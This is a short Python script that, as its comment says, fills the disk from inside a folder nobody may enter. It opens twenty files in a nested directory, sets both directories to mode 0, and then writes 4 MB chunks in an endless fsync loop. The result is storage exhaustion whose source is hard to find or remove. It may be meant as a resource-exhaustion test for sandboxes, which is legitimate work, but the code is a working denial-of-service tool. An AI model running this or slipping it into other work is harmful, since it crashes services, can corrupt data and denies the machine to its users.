# Fills the disk inside a folder that nobody may enter.
import itertools
import os
import time

os.makedirs("locked/inner", exist_ok=True)
files = [open(f"locked/inner/big{number}", "wb") for number in range(20)]
os.chmod("locked/inner", 0)
os.chmod("locked", 0)
for file in itertools.cycle(files):
    file.write(b"x" * 4_000_000)
    os.fsync(file.fileno())
    time.sleep(0.01)
